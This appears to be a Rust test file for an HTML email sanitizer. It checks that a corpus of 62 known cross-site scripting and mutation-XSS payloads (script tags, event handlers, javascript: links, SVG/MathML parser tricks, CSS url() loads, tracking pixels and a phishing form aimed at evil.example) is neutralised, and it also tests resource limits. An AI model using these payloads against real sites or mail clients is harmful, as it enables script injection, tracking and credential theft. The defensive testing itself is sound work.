//! The corpus: what has broken mail readers and sanitizers before, each with what must not come
//! out.

use std::time::{Duration, Instant};

use super::*;

/// As long as it takes to clean what is honest.
fn long() -> Effort {
    Effort::begin(Duration::from_secs(2))
}

fn clean(html: &str) -> Clean {
    sanitize(
        html,
        HashMap::from([("logo@x".to_owned(), "data:image/png;base64,AAAA".to_owned())]),
        1_000,
        &long(),
    )
    .expect("in time")
}

/// Input that tries to run script, load something, or leave the frame.
const CORPUS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 \
     onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x \
     onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-color:u\\72l(https://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(#default#time2)\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x)\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9\">over everything</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"blob:https://secure.example.org/x\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/v/other/sign-out\">x</a>",
    "<a href=https://ok.example ping=https://evil.example/>x</a>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=https://evil.example/x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset=\"https://evil.example/x 2x\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
    "<audio src=https://evil.example/x onloadstart=alert(1)>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</table>",
    "<body background=https://evil.example/x onload=alert(1)>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
];

#[test]
fn nothing_of_the_corpus_comes_out_with_effect() {
    for input in CORPUS {
        let html = clean(input).html.to_lowercase();
        // Text may say anything; what matters is what stands inside a tag.
        for tag in html
            .split('<')
            .skip(1)
            .map(|piece| piece.split('>').next().unwrap_or_default())
        {
            let name: String = tag
                .trim_start_matches('/')
                .chars()
                .take_while(char::is_ascii_alphanumeric)
                .collect();
            let dead = [
                "script", "iframe", "object", "embed", "applet", "base", "link", "meta", "style",
                "form", "input", "button", "svg", "math", "video", "audio", "source", "picture",
                "template", "noscript", "textarea", "xmp", "body", "marquee",
            ];
            assert!(!dead.contains(&name.as_str()), "{input}\n  gave {html}");
            for bad in [
                " on",
                "javascript:",
                "vbscript:",
                "evil.example",
                "srcset",
                "srcdoc",
                "url(",
                "expression",
                "position",
                "data:text",
                "data:image/svg",
                "blob:",
                "ping",
                "sign-out",
            ] {
                assert!(!tag.contains(bad), "{input}\n  gave {html}");
            }
        }
    }
}

#[test]
fn sanitizing_again_changes_nothing() {
    // What a browser reads differently the second time is what mutation attacks live on.
    for input in CORPUS {
        // The order of attributes settles with the first.
        let once = clean(&clean(input).html).html;
        assert_eq!(clean(&once).html, once, "{input}");
    }
}

#[test]
fn links_open_elsewhere_and_say_nothing() {
    let html =
        clean("<a href=\"https://ok.example/?a=1&amp;b=2\" target=_top rel=opener>x</a>").html;
    for part in [
        "href=\"https://ok.example/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "noopener noreferrer",
    ] {
        assert!(html.contains(part), "{html}");
    }
    assert!(!html.contains("_top"));
}

#[test]
fn pictures_that_came_along_are_shown_and_others_are_not() {
    let clean = clean(
        "<img src=\"cid:logo@x\"><img src='CID:logo%40x'><img src=cid:other><img \
         src=\"https://a.example/b\">",
    );
    assert_eq!(
        clean
            .html
            .matches("src=\"data:image/png;base64,AAAA\"")
            .count(),
        2,
        "{}",
        clean.html
    );
    assert_eq!(clean.html.matches("src=").count(), 2);
    assert!(clean.remote);
    assert!(!self::clean("<p>plain</p>").remote);
    assert_eq!(cids("<img src=\"cid:logo%40x\">"), ["logo@x"]);
}

#[test]
fn each_use_of_a_picture_counts() {
    let picture = format!("data:image/png;base64,{}", "A".repeat(300));
    let images = HashMap::from([("logo@x".to_owned(), picture.clone())]);
    let shown = |times: usize, most: usize| {
        let clean = sanitize(
            &"<img src=cid:logo@x>".repeat(times),
            images.clone(),
            most,
            &long(),
        )
        .expect("in time");
        (clean.html.matches(&picture).count(), clean.left_out)
    };
    assert_eq!(shown(3, 3 * picture.len()), (3, false));
    assert_eq!(shown(2_000, 3 * picture.len() + 1), (3, true));
    assert_eq!(shown(1, 0), (0, true));
}

#[test]
fn ordinary_mail_keeps_its_looks() {
    let html = "<table width=\"600\" cellpadding=\"4\" bgcolor=\"#eeeeee\"><tr><td \
                style=\"color:#222222;font-size:14px\">\
                <font face=\"Arial\">Hi</font></td></tr></table>";
    let cleaned = clean(html).html;
    for part in [
        "width=\"600\"",
        "cellpadding=\"4\"",
        "bgcolor=\"#eeeeee\"",
        "color",
        "font-size",
        "face=\"Arial\"",
    ] {
        assert!(cleaned.contains(part), "{part}: {cleaned}");
    }
}

#[test]
fn deep_documents_end_soon_shown_or_not() {
    for (piece, times) in [
        ("<div>", 200_000),
        ("<b><p>", 20_000),
        ("<ul><li>", 60_000),
        ("<b>x</i>", 100_000),
        ("<p>", 300_000),
    ] {
        let start = Instant::now();
        let _ = sanitize(&piece.repeat(times), HashMap::new(), 0, &long());
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "{piece}: {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn addresses_in_text_become_links_without_the_sentence_around_them() {
    let pieces = links("See https://a.example/x?y=1, (http://b.example). httpx https:// end");
    let found: Vec<_> = pieces
        .iter()
        .filter(|(_, link)| *link)
        .map(|(text, _)| text.as_str())
        .collect();
    assert_eq!(found, ["https://a.example/x?y=1", "http://b.example"]);
    assert_eq!(
        pieces
            .iter()
            .map(|(text, _)| text.as_str())
            .collect::<String>(),
        "See https://a.example/x?y=1, (http://b.example). httpx https:// end"
    );
}

/// The most memory that this process has held, in bytes.
fn peak() -> usize {
    let status = std::fs::read_to_string("/proc/self/status").expect("Linux");
    let line = status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .expect("a peak");
    line.trim()
        .trim_end_matches(" kB")
        .parse::<usize>()
        .expect("a number")
        * 1024
}

#[test]
fn tags_that_parsers_repeat_stay_small() {
    let before = peak();
    // What is open when a paragraph ends is opened again in each that follows.
    let sizes: String = (0..1_000).map(|n| format!("<font size={n}>")).collect();
    let integration = format!(
        "<math><annotation-xml encoding=text/html><p>{sizes}</p>{}",
        "<p>x".repeat(10_000)
    );
    let large = format!(
        "<p><font face=\"{}\"></p>{}",
        "x".repeat(100_000),
        "<p>x".repeat(10_000)
    );
    for html in [
        format!("<p>{sizes}</p>{}", "<p>x".repeat(10_000)),
        integration,
        large,
    ] {
        let length =
            sanitize(&html, HashMap::new(), 0, &long()).map_or(0, |clean| clean.html.len());
        assert!(length < 64 << 20, "{length}");
    }
    // Other tests run beside this one; without the bound it is twice as much.
    assert!(peak() - before < 512 << 20, "{} bytes", peak() - before);
}

#[test]
fn long_newsletters_are_shown() {
    let row = "<tr><td style=\"color:red;font-family:Arial\"><p><font \
               color=red><b>Hello</b></font> \
               <a href=\"https://a.example/b?c=d\">World</a></p></td></tr>";
    let clean = clean(&format!("<table>{}</table>", row.repeat(5_000)));
    assert_eq!(clean.html.matches("World").count(), 5_000);
}
